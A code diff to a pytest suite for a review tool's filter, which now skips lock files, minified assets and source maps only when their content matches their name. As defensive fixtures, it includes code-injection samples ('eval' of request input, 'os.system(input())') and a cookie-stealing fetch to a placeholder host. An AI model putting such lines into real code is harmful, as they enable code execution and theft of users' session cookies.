@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import difflib
+from dataclasses import replace
 
 import pytest
 
@@ -47,8 +48,11 @@ def reasons(*files: FileChange, **kwargs: object) -> dict[str, str | None]:
 # --- files nobody writes by hand: skipped on their own ---------------------------------------
 
 
+MINIFIED = "var a=function(b){return b+1};" * 170  # one line of 5,100 characters, no space in it
+
+
 @pytest.mark.parametrize(
-    ("path", "reason"),
+    ("path", "kind"),
     [
         ("package-lock.json", "lock file"),
         ("web/yarn.lock", "lock file"),
@@ -65,9 +69,48 @@ def reasons(*files: FileChange, **kwargs: object) -> dict[str, str | None]:
         ("vendor/x/y.min.js", "minified asset"),
     ],
 )
-def test_files_that_are_not_hand_written_are_skipped_with_reason(path: str, reason: str) -> None:
-    assert reasons(change(path)) == {path: reason}
-    assert reasons(change(path, status="modified")) == {path: reason}
+def test_a_name_that_was_one_on_the_base_side_is_skipped_and_a_new_one_is_reviewed(path: str, kind: str) -> None:
+    assert reasons(change(path, status="modified")) == {path: kind}
+    renamed = replace(change(path, status="renamed"), old_path="old/" + path.rsplit("/", 1)[-1])
+    assert reasons(renamed) == {path: kind}
+    assert reasons(change(path, 'eval(q.get("code"))')) == {path: None}  # a name is the author's claim
+
+
+@pytest.mark.parametrize("path", ["web/app.min.js", "web/auth.bundle.js", "web/site.min.css"])
+def test_a_new_minified_file_is_skipped_only_when_its_content_is_minified(path: str) -> None:
+    kind = "bundled asset" if ".bundle." in path else "minified asset"
+    assert reasons(change(path, MINIFIED)) == {path: f"{kind} (by its content: long lines, little whitespace)"}
+    spaced = "x = compute(a, b) + other(c, d); " * 170  # as long a line, but spaced as people write code
+    assert reasons(change(path, spaced)) == {path: None}
+    hand_written = ["function run(q) {", '  return eval(q.get("code"));', "}"]
+    assert reasons(change(path, *hand_written)) == {path: None}
+    # the whole file decides, not its patch: a hand-written tail after a minified line is reviewed
+    assert reasons(change(path, MINIFIED), read_full={path: MINIFIED + "\n" + "\n".join(hand_written * 60)}.get) == {
+        path: None
+    }
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("package-lock.json", '{"name": "app", "lockfileVersion": 3, "packages": {}}'),
+        ("Cargo.lock", 'version = 3\n\n[[package]]\nname = "serde"\nversion = "1.0.0"'),
+        ("web/pnpm-lock.yaml", "lockfileVersion: '9.0'\nimporters: {}"),
+        ("go.sum", "golang.org/x/text v0.3.0 h1:g61tztE5qeGQ89tm6NTjjM9VPIm088od1l6aSorWRWg="),
+    ],
+)
+def test_a_new_lock_file_is_skipped_only_when_it_reads_as_its_data(path: str, text: str) -> None:
+    assert reasons(change(path, *text.split("\n"))) == {path: "lock file (by its content: data, not code)"}
+    code = ["import os", "os.system(input())"]
+    assert reasons(change(path, *code)) == {path: None}
+    assert reasons(change("yarn.lock", *text.split("\n"))) == {"yarn.lock": None}  # no format to check it by
+
+
+def test_a_new_source_map_is_skipped_only_when_it_is_one() -> None:
+    assert reasons(change("a.js.map", '{"version":3,"sources":["a.ts"],"mappings":"AAAA"}')) == {
+        "a.js.map": "source map (by its content)"
+    }
+    assert reasons(change("a.js.map", "fetch('https://x.example/' + document.cookie)")) == {"a.js.map": None}
 
 
 def test_binary_file_is_skipped() -> None:
@@ -263,7 +306,7 @@ def test_extra_globs_from_config() -> None:
 
 
 def test_skipped_order_and_kept_order_follow_input() -> None:
-    files = [change("b.py"), change("yarn.lock"), change("a.py"), change("x.min.js")]
+    files = [change("b.py"), change("yarn.lock", status="modified"), change("a.py"), change("x.min.js", MINIFIED)]
     kept, skipped = filter_noise(files)
     assert [f.path for f in kept] == ["b.py", "a.py"]
     assert [s.path for s in skipped] == ["yarn.lock", "x.min.js"]
